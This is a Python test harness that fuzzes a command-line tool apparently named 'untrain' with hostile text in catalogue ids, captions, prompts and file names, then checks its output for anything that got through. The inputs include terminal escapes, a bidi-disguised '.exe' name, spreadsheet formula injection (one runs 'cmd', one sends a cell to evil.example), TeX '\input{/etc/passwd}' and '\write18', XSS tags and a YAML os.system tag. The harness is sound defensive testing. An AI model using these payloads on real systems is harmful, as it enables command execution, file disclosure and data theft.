"""Hostile text in every place that untrain takes text from, and every command's answer searched.

A catalogue, an experiment, a finished run, pictures to ask with and a letter carry texts that a
terminal, a spreadsheet, TeX, Markdown, HTML, XML or a file system would act on: in ids, captions,
attributes, prompts, names of files and what a letter says. Every command runs on them; what it
prints and every file that it writes is searched for text that got through.

    python benchmarks/reliability/hostile_text.py
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import html.parser
import io
import json
import os
import platform
import re
import sys
import tempfile
import traceback
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from xml.etree import ElementTree

TEXTS = {
    "colour": "\x1b[31mred\x1b[0m",
    "link": "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "title": "\x1b]0;owned\x07",
    "screen": "\x1b[2J\x1b[H",
    "8-bit": "\x9b31m red \x85 \x90",
    "bell": "bell \a\b\v\f \x7f",
    "override": "photo \u202egnp.exe",
    "isolate": "a \u2066b\u2069 \u200e\u200f\u061c c",
    "invisible": "ad\u200bmin \u2060\u00ad \U000e0041",
    "mark": "\ufefforder",
    "lines": "one\ntwo\r\nthree\rfour\u2028five\u2029six",
    "markup": "[bold red]x[/] [link=https://evil.example]y[/link] [/nothing] [",
    "formula": '=HYPERLINK("https://evil.example?q="&A1,"here")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "apostrophe": "'=1+1",
    "wide": "\uff1d1+1",
    "blank": " \t=1+1",
    "tex": r"\input{/etc/passwd} % & # $x$ ^ ~ _ { } \write18{id}",
    "math": r"$\frac{",
    "markdown": "[x](javascript:alert(1)) ![i](https://evil.example) # h",
    "pipe": "a | b || c",
    "ticks": "`code` ``` b",
    "tags": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "quote": '" onmouseover="alert(1)" x=\'y',
    "comment": "</script></style></title><!-- --> ]]>",
    "template": "{{ 7*7 }} {% raw %} {0} {name} %s %(x)s ${HOME} $(id)",
    "yaml": "--- !!python/object:os.system {x: &a *a}",
    "entities": "&lt;b&gt; &#27; &amp;",
    "long": "word " * 2000,
    "unbroken": "w" * 10_000,
    "marks": "e" + "\u0301" * 500,
    "family": "👩‍👩‍👧 نی‌خواهم ไทย हिन्दी 東京",
}
"""By kind: what nothing may act on. The last must stay as it is."""

RAW = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029"  # controls, except tab and line feed
    "\u061c\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff\ud800-\udfff"
    "\U000e0000-\U000e007f]"
)
FORMULA = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r]")
NUMBER = re.compile(r"[+-]?(\d[\d_]*\.?\d*|\.\d+|inf)(e[+-]?\d+)?", re.IGNORECASE)
EXACT = ("table.csv", "benchmark", "dattri")
"""Files and folders of tables for programs, which keep every text as it is."""


@dataclass
class Found:
    """What was searched, and what got through."""

    commands: int = 0
    files: int = 0
    faults: list[tuple[str, str, str]] = field(default_factory=list)

    def fault(self, where: str, what: str, sample: str = "") -> None:
        self.faults.append((where, what, ascii(sample)[:160]))


# -- What carries the texts ---------------------------------------------------------------------


def picture(place: Path, number: int) -> None:
    """Draw a small picture, different for each number."""
    import numpy as np
    from PIL import Image

    drawn = np.random.Generator(np.random.Philox(number)).integers(0, 255, (4, 4, 3), np.uint8)
    place.parent.mkdir(parents=True, exist_ok=True)
    Image.fromarray(drawn).resize((16, 16)).save(place, "PNG")


def write_catalogue(folder: Path, images: int = 68) -> Path:
    """Write a COCO-like file, whose ids, captions and attributes are the texts, and pictures."""
    kinds = list(TEXTS)
    entries, annotations = [], []
    for n in range(images):
        kind = kinds[n % len(kinds)]
        name = f"images/{n}.png"
        picture(folder / "data" / name, n)
        image_id = f"{TEXTS[kind][:400]} {n}"
        shade = TEXTS[kinds[(n // 4) % 6]]
        entries.append({"id": image_id, "file_name": name, "shade": shade, "kind": kind})
        annotations.append({"image_id": image_id, "caption": f"{TEXTS[kind]} shirt {n % 5}"})
    file = folder / "data" / "captions.json"
    file.write_text(json.dumps({"images": entries, "annotations": annotations}))
    return file


def write_experiment(folder: Path) -> Path:
    """Write an experiment on the catalogue, whose prompts are texts, too."""
    import yaml

    prompts = {f"p{n:02}": f"{text[:300]} shirt" for n, text in enumerate(TEXTS.values())}
    wanted = ("p00", "p06", "p12", "p24", "p33")
    settings = {
        "name": "hostile",
        "data": {"format": "coco", "path": "data/captions.json", "holdout": 0.05},
        "prompts": {"texts": [prompts[key] for key in wanted]},
        "generator": {"preset": "micro"},
        "generations": 2,
        "retrieval": {"top": 20},
        "removal": {"k": [2], "arms": ["targeted", "random_uniform"], "duplicates": "exact"},
        "design": {"kind": "randomised", "models": 4},
        "evaluation": {"draws": 100},
        "workers": 1,
    }
    file = folder / "experiment.yaml"
    file.write_text(yaml.safe_dump(settings, allow_unicode=False))
    return file


def write_asked(folder: Path) -> None:
    """Write pictures to ask with, and a request with its letter; names as hostile as files have."""
    import yaml

    for n, text in enumerate(TEXTS.values()):
        name = text[:60].replace("/", "∕").replace("\0", "")
        picture(folder / "asked" / f"{name} {n}.png", n)
    picture(folder / "asked" / os.fsdecode(b"latin-\xe9.png"), 90)
    for n, kind in enumerate(("colour", "override", "formula", "tags")):
        name = TEXTS[kind][:60].replace("/", "∕")
        picture(folder / "letter" / f"{name} {n}.png", n)
    said = {"from": TEXTS["title"] + TEXTS["tags"], "received": "2030-01-01"}
    said |= {"reference": TEXTS["colour"], "asks": TEXTS["markdown"] + TEXTS["override"]}
    (folder / "letter" / "request.yaml").write_text(yaml.safe_dump(said))


def write_bytes(folder: Path) -> None:
    """Write catalogues whose texts are no text: lone surrogates, bytes that are not UTF-8, NUL."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    pictures = [folder / "data" / "odd" / f"{n}.png" for n in range(3)]
    for n, place in enumerate(pictures):
        picture(place, n)
    data = [place.read_bytes() for place in pictures]
    entries = [
        {"id": f"{n}\ud800", "file_name": f"odd/{n}.png", "shade": "\udfff"} for n in range(3)
    ]
    said = [{"image_id": each["id"], "caption": "lone \ud83d and \0"} for each in entries]
    (folder / "data/captions_lone.json").write_text(
        json.dumps({"images": entries, "annotations": said})
    )
    wrong = pa.array([b"a\xff", b"b\x00", b"c\xed\xa0\x80"]).cast(pa.string(), safe=False)
    table = pa.table({"id": wrong, "caption": wrong, "image": pa.array(data)})
    pq.write_table(table, folder / "wrong.parquet")
    (folder / "wrong.csv").write_bytes(b"path,caption\nodd/0.png,\xff\nodd/1.png,b\x00c\n")
    named = folder / "named"
    for n, name in enumerate((b"a\xff", b"b\xed\xa0\x80", "é\u202e".encode(), b"ok")):
        picture(named / os.fsdecode(name + b".png"), n)
        (named / os.fsdecode(name + b".txt")).write_bytes(b"a shirt")


# -- What runs ----------------------------------------------------------------------------------

SETUP = (
    ("data", "inspect", "data/captions.json", "--sheet", "out/inspect.png"),
    ("plan", "experiment.yaml"),
    ("run", "experiment.yaml"),
)
READS = (
    ("data", "inspect", "data/captions.json", "--json"),
    ("data", "show", "data/captions.json", "--rows", "40"),
    ("data", "show", "data/captions.json", "--rows", "40", "--json"),
    ("data", "show", "data/captions.json", "-o", "where.shade=nothing"),
    ("data", "show", "data/captions.json", "-o", f"caption={TEXTS['colour']}"),
    ("data", "excluded", "data/captions.json", "--list", "ids.txt", "--out", "out/excluded.txt"),
    (
        "data",
        "summary",
        "data/captions.json",
        "--out",
        "out/summary.md",
        "--out",
        "out/summary.json",
    ),
    ("data", "summary", "data/captions.json"),
    (
        "data",
        "duplicates",
        "data/captions.json",
        "--csv",
        "out/copies.csv",
        "--sheet",
        "out/copies.png",
    ),
    ("data", "duplicates", "data/captions.json", "--json"),
    *(
        ("data", "export", "data/captions.json", f"out/{to}", "--to", to)
        for to in ("csv", "coco", "imagefolder", "parquet", "webdataset", "folder")
    ),
    ("data", "inspect", "out/csv/table.csv"),
    ("data", "inspect", "data/captions_lone.json"),
    ("data", "show", "data/captions_lone.json"),
    ("data", "export", "data/captions_lone.json", "out/lone", "--to", "csv"),
    ("data", "inspect", "wrong.parquet"),
    ("data", "show", "wrong.parquet"),
    ("data", "inspect", "wrong.csv"),
    ("data", "inspect", "named"),
    ("data", "inspect", "named", "--json"),
    ("data", "export", "named", "out/named", "--to", "csv"),
    ("data", "inspect", f"no{TEXTS['colour']}where"),
    ("data", "inspect", os.fsdecode(b"no\xffwhere")),
    ("data", "inspect", f"data/captions.json{TEXTS['override']}", "--format", TEXTS["title"]),
    ("index", "data/captions.json", "--out", "out/index"),
    ("search", "asked", "--index", "out/index"),
    ("trace", "letter", "--catalog", "data/captions.json"),
    *(
        ("trace", "asked", "--catalog", "data/captions.json", "--out", f"out/trace{kind}")
        for kind in (".csv", ".html", ".json", ".parquet", "")
    ),
    ("trace", "asked", "--catalog", "data/captions.json", "--json"),
    (
        "trace",
        "--prompt",
        TEXTS["colour"],
        "--catalog",
        "data/captions.json",
        "--out",
        "out/words.csv",
    ),
    ("trace", "--prompt", TEXTS["tags"], "--catalog", "data/captions.json", "--out", "out/words"),
    ("trace", "{picture}", "--run", "runs/hostile", "--out", "out/one.html"),
    ("trace", os.fsdecode(b"asked/latin-\xe9.png"), "--catalog", "data/captions.json"),
    ("guard", "asked", "--catalog", "data/captions.json"),
    ("guard", "{picture}", "--run", "runs/hostile", "--json"),
    ("status",),
    ("status", "runs/hostile"),
    ("status", "runs/hostile", "--json"),
    ("status", "--runs", TEXTS["colour"]),
    ("show", "runs/hostile"),
    ("show", "runs/hostile", "--json"),
    ("show", TEXTS["colour"]),
    ("show", os.fsdecode(b"runs/\xff")),
    ("report", "runs/hostile"),
    ("report", "runs/hostile", "--no-training-images"),
    ("sheet", "runs/hostile", "out/sheet.png"),
    ("run", "experiment.yaml", "--name", "second", "--seed", "1"),
    ("compare", "runs/hostile", "runs/second", "--csv", "out/compared.csv"),
    ("plan", "runs/hostile/config.yaml"),
    ("run", "experiment.yaml", "--set", f"name={TEXTS['colour']}"),
    ("run", "experiment.yaml", "--set", f"{TEXTS['title']}=1"),
    ("run", "experiment.yaml", "--set", f"data.path={TEXTS['override']}"),
    ("run", "experiment.yaml", TEXTS["colour"]),
    ("attribute", "runs/hostile", "--prompt", "p00", "-m", "fusion", "-o", "out/scores.csv"),
    ("attribute", "runs/hostile", "--prompt", "p00", "-m", "fusion", "-o", "out/scores.html"),
    ("attribute", "runs/hostile", "--prompt", TEXTS["title"], "-m", "fusion"),
    ("export", "runs/hostile", "out/pairs"),
    ("export", "runs/hostile", "out/study", "--layout", "study"),
    ("export", "runs/hostile", "out/model.md", "--to", "model-card"),
    ("export", "runs/hostile", "out/data.md", "--to", "dataset-card"),
    ("export", "runs/hostile", "--to", "model-card"),
    ("bank", "experiment.yaml", "--models", "4"),
    ("bank", "experiment.yaml", "--by", "shade", "--models", "4"),
    ("shares", "runs/hostile", "--by", "shade"),
    ("shares", "runs/hostile", "--by", "shade", "--json"),
    ("leaderboard", "experiment.yaml"),
    ("benchmark", "export", "runs/hostile", "-o", "out/benchmark"),
    ("export", "runs/hostile", "out/dattri", "--to", "dattri", "-m", "fusion"),
    ("weights", "runs/hostile", "--out", "out/weights.json"),
    ("unlearn", "runs/hostile", "--ids", "ids.txt", "--budget", "0.2"),
    ("takedown", "letter", "--catalog", "data/captions.json"),
    ("takedown", "letter", "--run", "runs/hostile", "--measure", "none", "--remove", "none"),
    ("takedown", "letter", "--catalog", "data/captions.json", "--not-a-copy", TEXTS["title"]),
    ("verify", "takedowns/*"),
    ("init", "mine", "--data", "data/captions.json"),
    ("report", "runs/hostile"),
    ("cache",),
    ("cache", "show", "--json"),
)


def call(arguments: tuple[str, ...]) -> tuple[int, str, str]:
    """Run a command in this process; return its code and what it printed."""
    from untrain.cli import main
    from untrain.core.progress import console

    sys.argv = ["untrain", *arguments]
    out, err = (
        io.TextIOWrapper(io.BytesIO(), "utf-8", "surrogatepass", write_through=True)
        for _ in range(2)
    )
    code = 0
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            main()
        except SystemExit as end:
            code = int(end.code or 0)
        except BaseException:
            code = -1
            traceback.print_exc(file=err)
        finally:
            console.quiet = False
    printed = (s.buffer.getvalue().decode("utf-8", "surrogatepass") for s in (out, err))
    return code, *printed


# -- What is searched ---------------------------------------------------------------------------


def around(text: str, hit: re.Match[str]) -> str:
    """Return a hit with what stands beside it."""
    return text[max(0, hit.start() - 40) : hit.end() + 30]


def search_printed(found: Found, name: str, code: int, out: str, err: str) -> None:
    """Search what a command printed."""
    if code not in (0, 2) or "should not have happened" in err:
        found.fault(name, f"exit {code}", err[-600:])
    for stream, text in (("stdout", out), ("stderr", err)):
        if hit := RAW.search(text):
            found.fault(f"{name} → {stream}", "raw", around(text, hit))


def search_file(found: Found, path: Path, name: str) -> None:
    """Search a file by its kind."""
    kind, data = path.suffix.lower(), path.read_bytes()
    if kind not in (".csv", ".tex", ".md", ".html", ".svg", ".json", ".jsonl", ".txt", ".yaml"):
        return
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError as error:
        found.fault(name, "no UTF-8", str(error))
        return
    search = SEARCHES.get(kind)
    if search is not None:
        for what, sample in search(text, path):
            found.fault(name, what, sample)


def _csv(text: str, path: Path) -> Iterator[tuple[str, str]]:
    try:
        rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    except csv.Error as error:
        yield "no CSV", str(error)
        return
    if len({len(row) for row in rows}) > 1:
        yield "rows of several lengths", str(rows[:2])
    if path.name in EXACT or any(part in EXACT for part in path.parts):
        return
    for row in rows:
        for cell in row:
            if FORMULA.match(cell) and not NUMBER.fullmatch(cell):
                yield "formula", cell
                return


def _tex(text: str, path: Path) -> Iterator[tuple[str, str]]:
    for pattern in (
        r"\\(input|write|frac)",
        r"(?<!\\)[%#]",
        r"(?<!\\)\$(?!-\$|\\infty\$)(?<!\$-\$)(?<!\\infty\$)",
    ):
        if hit := re.search(pattern, text):
            yield "TeX", around(text, hit)
    if hit := RAW.search(text):
        yield "raw", around(text, hit)


def _md(text: str, path: Path) -> Iterator[tuple[str, str]]:
    if hit := RAW.search(text):
        yield "raw", around(text, hit)
    fenced = re.sub(r"^(`{3,}|~{3,}).*?^\1`*$", "", text, flags=re.DOTALL | re.MULTILINE)
    plain = re.sub(r"(?<!\\)(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)", "", fenced)
    for pattern in (r"<(script|img|b)\b", r"(?<!\\)\]\(javascript", r"(?<!\\)!?(?<!\\)\[i\]"):
        if hit := re.search(pattern, plain):
            yield "Markdown", around(plain, hit)
    wide = None
    for line in text.splitlines():
        if not line.startswith("|"):
            wide = None
            continue
        cells = len(re.findall(r"(?<!\\)\|", line))
        if wide is not None and cells != wide:
            yield "cells", line
            return
        wide = cells


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []
        self._within = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._within = tag
        for name, value in attrs:
            acts = name in ("href", "src") and "javascript:" in (value or "").lower()
            if name.startswith("on") or acts:
                self.faults.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        if self._within == "script" and data.strip().startswith("alert(1)"):
            self.faults.append(data[:60])


def _html(text: str, path: Path) -> Iterator[tuple[str, str]]:
    if hit := RAW.search(text):
        yield "raw", around(text, hit)
    tags = _Tags()
    tags.feed(text)
    yield from (("HTML", fault) for fault in tags.faults[:1])


def _svg(text: str, path: Path) -> Iterator[tuple[str, str]]:
    try:
        ElementTree.fromstring(text)
    except ElementTree.ParseError as error:
        yield "no XML", str(error)
    if hit := RAW.search(text):
        yield "raw", around(text, hit)


def _json(text: str, path: Path) -> Iterator[tuple[str, str]]:
    for line in text.strip().split("\n") if path.suffix == ".jsonl" else [text]:
        try:
            json.loads(line, parse_constant=lambda name: (_ for _ in ()).throw(ValueError(name)))
        except ValueError as error:
            yield "no JSON", str(error)
            return


def _txt(text: str, path: Path) -> Iterator[tuple[str, str]]:
    if path.name == "log.txt" and (hit := RAW.search(text)):
        yield "raw", around(text, hit)


SEARCHES = {
    ".csv": _csv,
    ".tex": _tex,
    ".md": _md,
    ".html": _html,
    ".svg": _svg,
    ".txt": _txt,
    ".json": _json,
    ".jsonl": _json,
}


def hunt(place: Path, commands: tuple[tuple[str, ...], ...], verbose: bool = False) -> Found:
    """Run commands in a folder that is new; return what got through."""
    found = Found()
    before = Path.cwd()
    os.chdir(place)
    try:
        write_catalogue(place)
        write_experiment(place)
        write_asked(place)
        write_bytes(place)
        (place / "out").mkdir(exist_ok=True)
        ids = [
            each["id"] for each in json.loads((place / "data/captions.json").read_text())["images"]
        ]
        simple = [image_id for image_id in ids if image_id.isprintable()]
        (place / "ids.txt").write_text("".join(f"{image_id}\n" for image_id in simple[:3]))
        given = {path for path in place.rglob("*") if path.is_file()}
        for arguments in commands:
            own = tuple(_filled(word, place) for word in arguments)
            code, out, err = call(own)
            found.commands += 1
            name = ascii(" ".join(own))[1:-1][:110]
            if verbose:
                print(f"[{code}] {name}", flush=True)
                with Path(place, "printed.txt").open("a", errors="surrogatepass") as file:
                    file.write(f"\n##### [{code}] {name}\n{out}\n--- stderr\n{err}\n")
            search_printed(found, name, code, out, err)
        for path in sorted(set(place.rglob("*")) - given):
            if path.is_file() and path.name != "printed.txt":
                found.files += 1
                search_file(found, path, path.relative_to(place).as_posix())
    finally:
        os.chdir(before)
    return found


def _filled(word: str, place: Path) -> str:
    if word == "{picture}":
        return str(next(place.glob("runs/*/queries/*/*.png"), "nothing.png"))
    if word.endswith("/*"):
        return str(next(place.glob(word), word))
    return word


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, help="JSON file for the counts")
    parser.add_argument("--keep", type=Path, help="a new folder to work in, which stays")
    parser.add_argument("--few", action="store_true", help="no run: only what reads a catalogue")
    parser.add_argument("--verbose", action="store_true")
    asked = parser.parse_args()
    os.environ["COLUMNS"] = "120"
    commands = SETUP + READS
    if asked.few:
        commands = tuple(each for each in READS if not any("runs/" in word for word in each))
    with tempfile.TemporaryDirectory() as temporary:
        os.environ["UNTRAIN_CACHE"] = str(Path(temporary, "cache"))
        place = asked.keep or Path(temporary, "work")
        place.mkdir(parents=True)
        found = hunt(place.resolve(), commands, asked.verbose)
    rows = [
        ["texts", len(TEXTS)],
        ["commands", found.commands],
        ["files written", found.files],
        ["got through", len(found.faults)],
    ]
    for what, figure in rows:
        print(f"{what}: {figure}")
    for where, what, sample in found.faults:
        print(f"  {what}: {where}: {sample}")
    if asked.out:
        about = {
            "command": "python benchmarks/reliability/hostile_text.py",
            "machine": f"{platform.machine()}, {os.cpu_count()} cores",
            "rows": rows,
        }
        asked.out.write_text(json.dumps(about, indent=2) + "\n")
    sys.exit(1 if found.faults else 0)


if __name__ == "__main__":
    main()
